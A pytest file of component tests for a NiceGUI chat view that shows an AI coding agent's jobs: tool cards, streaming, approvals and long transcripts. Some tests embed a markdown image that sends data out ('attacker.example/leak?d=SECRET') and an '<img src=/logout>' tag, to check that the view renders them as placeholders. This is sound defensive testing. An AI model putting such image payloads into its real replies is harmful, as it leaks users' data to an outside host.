"""The chat view (D1-D6, E1-E3) against a real JobManager fed with synthetic events.

Fast component tests with NiceGUI's simulated `user`: no browser, no CLI.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable
from typing import Any

import pytest
from nicegui import Client, ui
from nicegui.testing import User
from nicegui.testing.user_interaction import UserInteraction

from components.chat import ChatView
from components.chat.cuts import link_definitions, parts
from components.chat.live_html import LiveHtml
from components.chat.long_reply import FIRST_CHARS
from components.chat.streaming import stable_prefix
from components.chat.view import INITIAL_EVENTS, PAGE_EVENTS
from core import events as ev
from core.jobs.approvals import PERMISSION, PLAN, QUESTION
from core.models import Job, JobStatus, new_id
from core.services import Services
from core.settings import Settings

pytestmark = pytest.mark.nicegui_main_file("")


# -- synthetic events -------------------------------------------------------------------------


def user_msg(text: str, **extra: Any) -> dict[str, Any]:
    return ev.make(ev.USER, **{"text": text, "uuid": new_id(), "images": [], **extra})


def block(block: dict[str, Any], parent: str | None = None) -> dict[str, Any]:
    return ev.make(ev.ASSISTANT, block=block, message_id="m", uuid=new_id(), parent_tool_use_id=parent,
                   model="test", error=None)


def text(value: str, parent: str | None = None) -> dict[str, Any]:
    return block({"type": "text", "text": value}, parent)


def thinking(value: str) -> dict[str, Any]:
    return block({"type": "thinking", "thinking": value})


def tool(tool_id: str, name: str, tool_input: dict[str, Any], parent: str | None = None) -> dict[str, Any]:
    return block({"type": "tool_use", "id": tool_id, "name": name, "input": tool_input}, parent)


def result_of(tool_id: str, content: str, is_error: bool = False, parent: str | None = None) -> dict[str, Any]:
    return ev.make(ev.TOOL_RESULT, tool_use_id=tool_id, content=content, is_error=is_error,
                   parent_tool_use_id=parent, uuid=new_id())


def turn_end(**extra: Any) -> dict[str, Any]:
    return ev.make(ev.RESULT, subtype="success", is_error=False, total_cost_usd=0.01, duration_ms=2500,
                   num_turns=1, usage={"input_tokens": 1200, "output_tokens": 80}, **extra)


def delta(services: Services, job_id: str, delta_type: str, text_: str = "", **extra: Any) -> None:
    """Publish a live-only event the way LiveSession does: the seq of the last stored event, never stored."""
    event = ev.make(ev.DELTA, live=True, delta_type=delta_type, text=text_, parent_tool_use_id=None, **extra)
    event["seq"] = services.logs.log(job_id).last_seq()
    services.hub.publish(job_id, event)


# -- fixtures ---------------------------------------------------------------------------------


@pytest.fixture
def services(tmp_path) -> Services:
    return Services.create(Settings(projects_root=tmp_path / "projects"))


@pytest.fixture
def make_job(services: Services) -> Callable[..., Job]:
    project = services.projects.create("demo")

    def make(history: list[dict[str, Any]], status: str = JobStatus.COMPLETED) -> Job:
        job = Job(id=new_id(), project_id=project.id, name="job", prompt="p", status=status)
        return services.jobs.add_imported_job(job, history)
    return make


@pytest.fixture
def open_view(user: User, services: Services):
    """Open a page holding only a ChatView; returns the callbacks it received."""
    calls: dict[str, list] = {"fork": [], "edit": []}

    async def open_(job_id: str, **options: Any) -> dict[str, list]:
        @ui.page("/chat/{job_id}")
        def page(job_id: str) -> None:
            calls["view"] = [ChatView(services, job_id, on_fork=calls["fork"].append,
                                      on_edit=lambda seq, text_: calls["edit"].append((seq, text_)), **options)]

        await user.open(f"/chat/{job_id}")
        return calls
    yield open_
    # Deleting the clients first stops their timers and outbox loops, which otherwise can race
    # NiceGUI's task teardown under Python 3.11 and cost it a 2 s timeout.
    for client in list(Client.instances.values()):
        if not client.is_deleted and client.page.path == "/chat/{job_id}":
            client.delete()


def text_of(element: ui.element) -> str:
    """Everything an element and its descendants display."""
    return " ".join(str(value) for e in element.descendants(include_self=True)
                    for value in (getattr(e, "text", None), getattr(e, "content", None), e.props.get("label"))
                    if value)


def elements(user: User, marker: str, content: str | None = None) -> list[ui.element]:
    """Visible elements with `marker` (in page order) whose subtree shows `content`."""
    try:
        found = user.find(marker=marker).elements
    except AssertionError:
        return []
    return sorted((e for e in found if content is None or content in text_of(e)), key=lambda e: e.id)


async def see(user: User, marker: str, content: str = "") -> ui.element:
    for _ in range(5):
        if found := elements(user, marker, content):
            return found[0]
        await asyncio.sleep(0.1)
    raise AssertionError(f"no {marker!r} showing {content!r} on the page:\n{user.current_layout}")


def inside(element: ui.element, container: ui.element) -> bool:
    return container in element.ancestors()


def within(container: ui.element, marker: str) -> Any:
    return next(e for e in container.descendants() if marker in e._markers)


def click(user: User, element: ui.element) -> None:
    """Click one particular element (user.find would click the first of several alike)."""
    UserInteraction(user, {element}, None).click()


# -- D1/D3: messages, markdown, thinking ------------------------------------------------------


async def test_messages_render_with_markdown_and_thinking_runs_merge(user: User, make_job, open_view):
    job = make_job([user_msg("Please fix it"), thinking("first thought"), thinking("second thought"),
                    text("Done:\n\n```python\nprint('hi')\n```"), turn_end(), thinking("a later thought")])
    calls = await open_view(job.id)

    await see(user, "user-message", "Please fix it")
    assert elements(user, "assistant-text")[0].content.startswith("Done:")
    runs = elements(user, "thinking")
    assert len(runs) == 2  # the two consecutive blocks merged; the one after the turn stands alone
    assert "first thought" not in text_of(runs[0])  # sent only when opened
    with user:
        runs[0].value = True
    assert "first thought" in text_of(runs[0]) and "second thought" in text_of(runs[0])

    user.find(marker="fork").click()
    assert calls["fork"] == [5]
    user.find(marker="edit").click()
    assert calls["edit"] == [(1, "Please fix it")]
    await see(user, "turn-footer", "Turn done")


async def test_user_images_errors_and_the_fresh_start_warning_show_inline(user: User, make_job, open_view):
    job = make_job([user_msg("look", images=[{"name": "shot.png", "media_type": "image/png", "size": 2048}]),
                    ev.make(ev.WARNING, message="Claude will not see the earlier messages."),
                    ev.make(ev.ERROR, message="The API rejected the credentials."),
                    # A failure arrives as a status change and an error event: one red line says it once.
                    ev.make(ev.STATUS, status="failed", previous="running", reason=None, error="No credentials."),
                    ev.make(ev.ERROR, message="No credentials.")])
    await open_view(job.id)
    assert [text_of(e) for e in elements(user, "error")] == ["The API rejected the credentials.",
                                                             "Job failed: No credentials."]
    await user.should_see(marker="user-image", content="shot.png · 2.0 KB")
    warning = elements(user, "warning")[0]
    assert "text-warning" in warning.classes
    await user.should_see(marker="error")
    assert "text-negative" in elements(user, "error")[0].classes


# -- D2: tool renderers -----------------------------------------------------------------------


async def test_edit_shows_a_unified_diff_and_results_attach_to_their_card(user: User, make_job, open_view):
    job = make_job([
        tool("e1", "Edit", {"file_path": "/p/app.py", "old_string": "a = 1\nold line\n", "new_string":
                            "a = 1\nnew line\n"}),
        result_of("e1", "The file /p/app.py has been updated."),
        tool("b1", "Bash", {"command": "pytest -q", "description": "Run tests"}),
        result_of("b1", "1 failed", is_error=True),
        tool("me", "MultiEdit", {"file_path": "/p/b.py", "edits": [{"old_string": "x", "new_string": "y"},
                                                                   {"old_string": "p", "new_string": "q"}]}),
    ])
    await open_view(job.id)

    edit = elements(user, "tool-card")[0]
    assert edit.props["data-tool"] == "Edit"
    diff = next(c for c in edit.descendants() if "```diff" in str(getattr(c, "content", "")))
    assert "-old line" in diff.content and "+new line" in diff.content and "@@" in diff.content
    bash = elements(user, "tool-card")[1]
    assert bash.props["data-tool"] == "Bash" and "ccs-tool-error" in bash.classes
    results = elements(user, "tool-result")
    assert [inside(r, c) for r, c in zip(results, (edit, bash), strict=True)] == [True, True]
    assert results[1].props["data-error"] == "true"
    multi = elements(user, "tool-card")[2]
    assert "/p/b.py  +2 −2 · 2 edits" in text_of(multi)
    assert all(line in text_of(multi) for line in ("-x", "+y", "-p", "+q"))


async def test_each_tool_has_its_renderer(user: User, make_job, open_view):
    long_output = "\n".join(f"line {i}" for i in range(100))
    job = make_job([
        tool("w", "Write", {"file_path": "/p/a.py", "content": "x = 1\ny = 2\n"}), result_of("w", "ok"),
        tool("r", "Read", {"file_path": "/p/a.py"}), result_of("r", "     1\tx = 1\n     2\ty = 2"),
        tool("g", "Grep", {"pattern": "TODO", "path": "src"}), result_of("g", "src/a.py:3: TODO\nsrc/b.py:9: TODO"),
        tool("gl", "Glob", {"pattern": "**/*.py"}), result_of("gl", "a.py\nb.py"),
        tool("t", "TodoWrite", {"todos": [{"content": "Write code", "status": "completed", "activeForm": "Writing"},
                                          {"content": "Test it", "status": "in_progress", "activeForm": "Testing"}]}),
        tool("ws", "WebSearch", {"query": "nicegui timers"}), result_of("ws", "Results: ..."),
        tool("wf", "WebFetch", {"url": "https://example.org", "prompt": "summarise"}), result_of("wf", "# Title"),
        tool("m", "mcp__srv__thing", {"what": "ever"}), result_of("m", long_output),
    ])
    await open_view(job.id)

    names = [c.props["data-tool"] for c in elements(user, "tool-card")]
    assert names == ["Write", "Read", "Grep", "Glob", "TodoWrite", "WebSearch", "WebFetch", "mcp__srv__thing"]
    await see(user, "tool-card", "/p/a.py  (2 lines · 12 B)")
    await user.should_see(content="2 result lines")
    assert [i.props["data-status"] for i in elements(user, "todo-item")] == ["completed", "in_progress"]
    await user.should_see("Testing")

    # A long output is cut to a preview; the whole of it opens full screen.
    await user.should_not_see("line 99")
    user.find(marker="show-full").click()
    dialog = elements(user, "full-view")[0]
    assert dialog.value is True
    assert any("line 99" in str(getattr(c, "text", "")) for c in dialog.descendants())

    # The raw JSON is built on demand.
    assert not elements(user, "raw-json")
    card = elements(user, "tool-card")[0]
    click(user, within(card, "raw-json-toggle"))
    raw = elements(user, "raw-json")[0]
    assert '"file_path": "/p/a.py"' in raw.content and '"result"' in raw.content


async def test_subagent_work_nests_inside_its_task_card(user: User, make_job, open_view):
    job = make_job([
        tool("task1", "Task", {"description": "Count files", "prompt": "Count them", "subagent_type": "general"}),
        text("Looking around.", parent="task1"),
        tool("sub-bash", "Bash", {"command": "ls | wc -l"}, parent="task1"),
        result_of("sub-bash", "3", parent="task1"),
        tool("sub-read", "Read", {"file_path": "/p/x"}, parent="task1"),
        result_of("sub-read", "x", parent="task1"),
        result_of("task1", "There are **3** files."),
        text("The subagent counted 3."),
    ])
    await open_view(job.id)

    task = next(c for c in elements(user, "tool-card") if c.props["data-tool"] == "Task")
    nested_bash = next(c for c in elements(user, "tool-card") if c.props["data-tool"] == "Bash")
    assert inside(nested_bash, task)
    assert inside(elements(user, "assistant-text", "Looking around.")[0], task)
    assert not inside(elements(user, "assistant-text", "The subagent counted 3.")[0], task)
    assert elements(user, "subagent")[0].text == "Subagent work · 2 steps"


# -- D1: streaming ----------------------------------------------------------------------------


async def test_streamed_text_shows_before_the_final_event_and_is_replaced_by_it(
        user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("hi")], status=JobStatus.RUNNING)
    await open_view(job.id)

    delta(services, job.id, "message_start", message_id="m1")
    delta(services, job.id, "block_start", index=0, block_type="thinking")
    delta(services, job.id, "thinking_delta", "pondering", index=0)
    delta(services, job.id, "block_start", index=1, block_type="text")
    for piece in ("Hello", " wor"):
        delta(services, job.id, "text_delta", piece, index=1)
    await see(user, "assistant-streaming", "Hello wor")
    await user.should_see(marker="thinking-streaming")

    services.jobs.emit(job, thinking("pondering"))
    services.jobs.emit(job, text("Hello world"))
    await user.should_not_see(marker="assistant-streaming")
    assert len(elements(user, "assistant-text")) == 1
    assert elements(user, "assistant-text")[0].content == "Hello world"

    # The next block of the same turn streams anew; nothing of the first one comes back.
    delta(services, job.id, "block_start", index=2, block_type="tool_use", name="Bash")
    delta(services, job.id, "input_json_delta", '{"command": "ls"}', index=2)
    await see(user, "tool-streaming", "Preparing Bash")
    services.jobs.emit(job, tool("t9", "Bash", {"command": "ls"}))
    await user.should_not_see(marker="tool-streaming")
    assert len(elements(user, "assistant-text")) == 1


async def test_a_long_stream_converts_finished_paragraphs_once_and_shows_all_of_it(
        user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("hi")], status=JobStatus.RUNNING)
    await open_view(job.id)
    delta(services, job.id, "message_start", message_id="m1")
    delta(services, job.id, "block_start", index=0, block_type="text")
    pieces = [f"Paragraph {n} says something.\n\n" for n in range(30)]
    pieces[10:10] = ["```python\nx = 1\n\n", "y = 2\n```\n\n"]  # a blank line inside code: no split there
    for piece in pieces:
        delta(services, job.id, "text_delta", piece, index=0)
        await asyncio.sleep(0.12)  # a flush between pieces
    await see(user, "assistant-streaming", "Paragraph 29 says something.")
    stream = elements(user, "assistant-streaming")[0]
    markdowns = [e for e in stream.descendants() if isinstance(e, ui.markdown | LiveHtml)]
    assert len(markdowns) > 10, "finished paragraphs are chunks of their own"
    assert "".join(m.content for m in markdowns) == "".join(pieces)
    assert any(m.content.startswith("```python\nx = 1\n\ny = 2\n```") for m in markdowns)


async def test_a_late_subscriber_starts_from_the_partial_block(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("hi")], status=JobStatus.RUNNING)

    class Streaming:  # what live_info reads of a LiveSession mid-stream
        connected, closing, turn_active, prompts, server_info = True, False, True, [], None
        partial = {0: {"type": "text", "name": None, "text": "Half a sen"}}

    services.jobs.live[job.id] = Streaming()  # type: ignore[assignment]
    try:
        await open_view(job.id)
        await see(user, "assistant-streaming", "Half a sen")
        delta(services, job.id, "text_delta", "tence.", index=0)
        await see(user, "assistant-streaming", "Half a sentence.")
        assert len(elements(user, "assistant-streaming")) == 1
    finally:
        del services.jobs.live[job.id]


# -- D5: live follow, exactly once ------------------------------------------------------------


async def test_live_events_appear_once_and_a_reload_shows_everything_once(
        user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("first")], status=JobStatus.IDLE)
    calls = await open_view(job.id)
    services.jobs.emit(job, text("answer one"))
    services.jobs.emit(job, turn_end())
    await user.should_see(marker="assistant-text", content="answer one")
    view = calls["view"][0]
    for event in services.jobs.events(job.id):  # a replay (e.g. a second delivery) changes nothing
        view._on_event(event)
    assert len(elements(user, "assistant-text")) == 1
    assert len(elements(user, "turn-footer")) == 1

    await user.open(f"/chat/{job.id}")  # reload: a fresh client reads the log again
    assert len(elements(user, "user-message")) == 1
    assert len(elements(user, "assistant-text")) == 1


async def test_a_queued_prompt_waits_until_its_user_event(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("start")], status=JobStatus.RUNNING)
    await open_view(job.id)
    queued = user_msg("and then this")
    services.jobs.emit(job, ev.make(ev.PROMPT_QUEUED, text=queued["text"], uuid=queued["uuid"], images=[]))
    await see(user, "queued-prompt", "queued — will be sent after the current turn")
    services.jobs.emit(job, turn_end())
    services.jobs.emit(job, {**queued, "was_queued": True})
    await user.should_not_see(marker="queued-prompt")
    await see(user, "user-message", "and then this")


async def test_a_queued_prompt_the_job_never_sent_says_so(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("start")], status=JobStatus.RUNNING)
    await open_view(job.id)
    services.jobs.emit(job, ev.make(ev.PROMPT_QUEUED, text="later", uuid=new_id(), images=[]))
    await see(user, "queued-prompt", "queued — will be sent")
    services.jobs.set_status(job, JobStatus.IDLE, reason="stopped by the user")  # Stop clears the queue
    await see(user, "queued-prompt", "not sent")


async def test_the_view_stops_following_when_it_is_removed(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("hi")], status=JobStatus.IDLE)
    calls = await open_view(job.id)
    assert services.hub.listener_count(job.id) > 0
    with user:
        calls["view"][0].root.delete()  # e.g. the page shows another job in the same tab
    assert services.hub.listener_count(job.id) == 0
    services.jobs.emit(job, text("nobody is listening"))  # must not touch deleted elements


# -- D4: working indicator and usage ----------------------------------------------------------


async def test_working_indicator_follows_the_job_status(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("go")], status=JobStatus.IDLE)
    await open_view(job.id)
    await user.should_not_see(marker="working-indicator")
    services.jobs.set_status(job, JobStatus.RUNNING)
    await user.should_see(marker="working-indicator")
    await user.should_see(content="Working · ")
    job.cost_usd, job.input_tokens, job.output_tokens, job.turns = 0.0123, 1500, 300, 1
    services.jobs.emit(job, turn_end())
    services.jobs.set_status(job, JobStatus.IDLE)
    await user.should_not_see(marker="working-indicator")
    await user.should_see(marker="job-usage", content="Job total $0.0123 · 1.5k in · 300 out · 1 turn")
    await user.should_see(marker="turn-usage", content="2s · 1.2k in · 80 out")


# -- D6: long transcripts ---------------------------------------------------------------------


async def test_a_long_transcript_opens_with_the_recent_part_and_loads_older_on_demand(
        user: User, make_job, open_view):
    history = []
    for i in range(2500):
        history += [user_msg(f"question {i}"), text(f"answer {i}")]
    job = make_job(history)
    started = time.perf_counter()
    calls = await open_view(job.id)
    opened = time.perf_counter() - started
    print(f"\nopening a job with {len(history)} events: {opened * 1000:.0f} ms")
    assert opened < 1.0

    shown, page = INITIAL_EVENTS // 2, PAGE_EVENTS // 2  # a question and its answer per exchange
    await user.should_see(marker="assistant-text", content="answer 2499")
    assert len(elements(user, "assistant-text")) == shown
    await user.should_not_see(marker="assistant-text", content=f"answer {2499 - shown}")
    user.find(marker="load-earlier").click()
    await user.should_see(marker="assistant-text", content=f"answer {2500 - shown - page}")
    assert len(elements(user, "assistant-text")) == shown + page
    view = calls["view"][0]
    # Each turn is its own small column: no container holds the whole transcript.
    assert max(len(list(lane)) for lane in view._pages) <= 100


async def test_a_window_starting_mid_turn_folds_orphans_in_when_earlier_events_load(
        user: User, make_job, open_view):
    job = make_job([
        tool("task1", "Task", {"description": "Explore"}),
        tool("sub", "Bash", {"command": "ls"}, parent="task1"),
        text("sub says hi", parent="task1"),
        result_of("sub", "a\nb", parent="task1"),
        result_of("task1", "Explored."),
    ])
    await open_view(job.id, initial_events=3, page_events=10)
    await user.should_see(marker="orphan-subagent")
    await user.should_see(marker="orphan-result")

    user.find(marker="load-earlier").click()
    await user.should_not_see(marker="orphan-subagent")
    await user.should_not_see(marker="orphan-result")
    task = next(c for c in elements(user, "tool-card") if c.props["data-tool"] == "Task")
    assert inside(elements(user, "assistant-text", "sub says hi")[0], task)
    assert elements(user, "subagent")[0].text == "Subagent work · 1 step"
    assert any(inside(r, task) for r in elements(user, "tool-result", "Explored."))
    await user.should_not_see(marker="load-earlier")


# -- E1-E3: approvals -------------------------------------------------------------------------


async def _pending(services: Services, job_id: str, kind: str, tool_name: str, tool_input: dict[str, Any]):
    task = asyncio.create_task(services.jobs.approvals.request(job_id, kind, tool_name, tool_input))
    while not services.jobs.approvals.pending(job_id):
        await asyncio.sleep(0.01)
    return task


async def test_a_pending_permission_is_answered_from_its_card(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("clean up")], status=JobStatus.RUNNING)
    before = await _pending(services, job.id, PERMISSION, "Bash", {"command": "rm -rf build"})
    await open_view(job.id)
    await user.should_see(marker="approval-card")
    await user.should_see(content="Bash: rm -rf build")
    user.find(marker="approve").click()
    decision = await asyncio.wait_for(before, 1)
    assert decision.allow and not decision.always
    await user.should_see(marker="approval-outcome", content="Allowed")

    live = await _pending(services, job.id, PERMISSION, "Write", {"file_path": "/p/x", "content": "x"})
    await user.should_see(marker="approval-card")
    cards = elements(user, "approval-card")
    assert len(cards) == 2
    within(cards[1], "deny-reason").value = "not that file"
    click(user, within(cards[1], "deny"))
    decision = await asyncio.wait_for(live, 1)
    assert not decision.allow and decision.message == "not that file"
    await user.should_see(marker="approval-outcome", content="Denied — not that file")


async def test_a_question_sends_the_chosen_options_and_free_text(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("ask me")], status=JobStatus.RUNNING)
    await open_view(job.id)
    asked = await _pending(services, job.id, QUESTION, "AskUserQuestion", {"questions": [
        {"question": "Which colour?", "header": "Colour", "multiSelect": False,
         "options": [{"label": "Red", "description": "warm"}, {"label": "Blue"}]},
        {"question": "Which sizes?", "header": "Size", "multiSelect": True,
         "options": [{"label": "S"}, {"label": "M"}, {"label": "L"}]},
    ]})
    await user.should_see(marker="approval-card")
    await user.should_see(content="Red — warm")
    with user:
        radio = elements(user, "question-option")[0]
        radio.value = "Blue"
        boxes = [e for e in elements(user, "question-option") if isinstance(e, ui.checkbox)]
        boxes[0].value = boxes[2].value = True
        elements(user, "question-other")[1].value = "XXL"
    user.find(marker="approve").click()
    decision = await asyncio.wait_for(asked, 1)
    assert decision.updated_input["answers"] == {"Which colour?": "Blue", "Which sizes?": "S, L, XXL"}
    await user.should_see(marker="approval-outcome", content="Which colour? → Blue")


async def test_a_plan_is_shown_as_markdown_and_can_be_rejected(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("plan it")], status=JobStatus.RUNNING)
    await open_view(job.id)
    planned = await _pending(services, job.id, PLAN, "ExitPlanMode", {"plan": "# The plan\n\n1. Do it"})
    await user.should_see(marker="approval-card")
    await user.should_see(content="# The plan")
    user.find(marker="deny-reason").type("too risky")
    user.find(marker="deny").click()
    decision = await asyncio.wait_for(planned, 1)
    assert not decision.allow and decision.message == "too risky"
    await user.should_see(marker="approval-outcome", content="Denied — too risky")


async def test_an_approval_answered_elsewhere_shows_its_outcome(user: User, services: Services, make_job, open_view):
    job = make_job([user_msg("go")], status=JobStatus.RUNNING)
    await open_view(job.id)
    pending = await _pending(services, job.id, PERMISSION, "Bash", {"command": "make"})
    await user.should_see(marker="approve")
    approval = services.jobs.approvals.pending(job.id)[0]
    services.jobs.approvals.answer(approval.id, "allow_always")  # e.g. from the API or another browser
    await pending
    await user.should_see(marker="approval-outcome", content="Always allowed for this job")
    await user.should_not_see(marker="approve")


async def test_images_in_replies_streams_tool_results_and_plans_are_placeholders(
        user: User, services: Services, make_job, open_view):
    """Spec J6: no rendering of the model's words carries an <img> that loads; the browser still sanitizes."""
    leak = "![x](http://attacker.example/leak?d=SECRET)"
    job = make_job([user_msg("hi"), text(f"Saved. {leak}"), tool("t1", "Task", {"prompt": "look"}),
                    result_of("t1", f"Found it: {leak}")], status=JobStatus.RUNNING)
    await open_view(job.id)
    planned = await _pending(services, job.id, PLAN, "ExitPlanMode", {"plan": f"# Plan\n\n{leak}"})
    delta(services, job.id, "message_start", message_id="m2")
    delta(services, job.id, "block_start", index=0, block_type="text")
    delta(services, job.id, "text_delta", f"Streaming {leak}\n\nMore <img src=/logout> text\n", index=0)
    await see(user, "assistant-streaming", "More")
    await user.should_see(marker="approval-card")

    rendered = [*user.find(ui.markdown).elements, *(e for e in user.find(LiveHtml).elements if e.props.get("html"))]
    shown = [e.props.get("innerHTML") or e.props.get("html") or "" for e in rendered]
    with_images = [html for html in shown if "ccs-remote-image" in html]
    assert len(with_images) == 5, shown  # reply, subagent result, plan, streamed chunk, streamed tail
    assert all("<img" not in html for html in shown)
    assert any("Image from <b>this server</b>" in html for html in with_images)
    assert all(e.props.get("sanitize") for e in rendered if isinstance(e, ui.markdown))
    planned.cancel()


# -- streaming markdown: where a reply can be split -------------------------------------------


@pytest.mark.parametrize(("text", "expected"), [
    ("One paragraph still growing", 0),
    ("First.\n\nSecond", 0),  # the second line is not complete: it might become a list item
    ("First.\n\nSecond.\n", 8),
    ("First.\n\n- item\n", 0),  # a list may go on after a blank line
    ("- a\n\n- b\n\nAfter the list.\n", 10),
    ("```\ncode\n\nmore code\n```\n\nText.\n", 25),  # the blank line inside the fence is no place
    ("```\ncode\n\nmore code\n", 0),  # an open fence: nothing after it is stable
    ("Intro.\n\n```\ncode\n", 8),  # before the fence is
    ("Text.\n\n    indented\n", 0),
    ("~~~~\n```\n\nstill code\n~~~~\n\nOut.\n", 27),
])
def test_stable_prefix(text: str, expected: int) -> None:
    assert stable_prefix(text) == expected
    if expected:
        assert text[expected - 2:expected] == "\n\n"


@pytest.mark.parametrize("text", [
    "Intro.\n\n<details>\n<summary>More</summary>\n\nHidden.\n\n</details>\n\nAfter.\n",
    "Intro.\n\n<!-- a comment\n\nstill the comment -->\n\nAfter.\n",
])
def test_no_cut_inside_raw_html(text: str) -> None:
    assert parts(text, 1) == ["Intro.\n\n", text[len("Intro.\n\n"):text.index("After.")], "After.\n"]


def test_a_long_text_is_cut_into_parts_that_join_to_it() -> None:
    text = "".join(f"## Section {n}\n\nSee [the docs][d] and:\n\n```python\nx = {n}\n\ny = {n}\n```\n\n"
                   f"1. one\n\n2. two\n\n" for n in range(50)) + "[d]: https://docs.example\n"
    pieces = parts(text, 200)
    assert "".join(pieces) == text
    assert 10 < len(pieces) < 50 and all(len(piece) >= 200 for piece in pieces[:-1])
    assert all(piece.count("```") % 2 == 0 for piece in pieces), "never inside a code block"
    assert not any(piece.startswith("2. ") for piece in pieces), "never inside a loose list"
    assert link_definitions(text) == "[d]: https://docs.example\n"


def huge_reply(lines: int) -> str:
    out = ["# The whole review", "", "![diagram](https://attacker.example/leak?d=x)", ""]
    while len(out) < lines:
        n = len(out)
        out += [f"## Part {n}", ""] if n % 20 == 0 else \
            [f"Line {n}: the handler reads the request and answers; **nothing** to change in `module_{n}`."]
    return "\n".join(out[:lines - 2] + ["", "The end of the review."])


async def test_a_huge_reply_opens_at_its_beginning_and_shows_the_rest_on_demand(
        user: User, make_job, open_view):
    """Spec D6: a 5,000-line reply opens with its first screens and a way to the rest; nothing is lost."""
    reply = huge_reply(5000)
    job = make_job([user_msg("review it all"), text(reply), turn_end()])
    await open_view(job.id)

    shown = await see(user, "assistant-text", "The whole review")
    await see(user, "turn-footer", "Turn done")
    parts_shown = [e for e in shown.descendants() if isinstance(e, ui.markdown)]
    first = "".join(e.content for e in parts_shown)
    assert reply.startswith(first) and FIRST_CHARS <= len(first) < len(reply) // 10
    assert "ccs-remote-image" in parts_shown[0].props["innerHTML"] and "<img" not in parts_shown[0].props["innerHTML"]
    await user.should_not_see("The end of the review.")
    lines_shown = first.count("\n")
    await see(user, "reply-rest", f"Lines 1–{lines_shown:,} of 5,000")

    user.find(marker="show-more").click()
    await see(user, "reply-rest", "of 5,000")
    more = "".join(e.content for e in shown.descendants() if isinstance(e, ui.markdown))
    assert reply.startswith(more) and len(more) > len(first)

    user.find(marker="show-all").click()
    await see(user, "assistant-text", "The end of the review.")
    await user.should_not_see(marker="reply-rest")
    assert "".join(e.content for e in shown.descendants() if isinstance(e, ui.markdown)) == reply


async def test_a_reply_in_parts_keeps_its_reference_links(user: User, make_job, open_view) -> None:
    reply = "".join(f"See [the docs][d], section {n}.\n\n" for n in range(4000)) + "[d]: https://docs.example\n"
    job = make_job([user_msg("links?"), text(reply)])
    await open_view(job.id)
    await see(user, "reply-rest")  # shown in parts: the definition is in the last one
    first = next(e for e in (await see(user, "assistant-text")).descendants() if isinstance(e, ui.markdown))
    assert '<a href="https://docs.example">the docs</a>' in first.props["innerHTML"]
    assert "[d]" not in first.props["innerHTML"]


async def test_a_reply_cut_short_says_so(user: User, make_job, open_view):
    cut = {**text("The cause is the tax, which"), "interrupted": True}
    job = make_job([user_msg("why?"), cut])
    await open_view(job.id)
    await see(user, "assistant-text", "The cause is the tax, which")
    await see(user, "interrupted", "the rest of this reply never arrived")


# -- L3: restoring files to before a message ---------------------------------------------------


async def test_a_rewind_shows_in_the_transcript_with_its_message_and_files(user: User, make_job, open_view):
    job = make_job([user_msg("change a.txt"), turn_end(),
                    ev.make(ev.REWIND, user_seq=1, user_text="change a.txt", files=["a.txt", "sub/b.txt"],
                            insertions=1, deletions=2)])
    await open_view(job.id)
    notice = await see(user, "rewind-notice", "Files restored to before “change a.txt”: a.txt, sub/b.txt")
    assert notice.props["data-seq"] == "1"


async def test_restore_files_says_why_it_cannot_in_its_dialog(user: User, make_job, open_view):
    job = make_job([user_msg("an imported request"), text("An old answer."), turn_end()])
    await open_view(job.id)
    user.find(marker="restore-files").click()
    await see(user, "rewind-error", "no resumable conversation")
    assert not within(elements(user, "rewind-dialog")[0], "rewind-confirm").visible
    assert len(elements(user, "restore-files")) == 1, "only the user's own messages offer it"
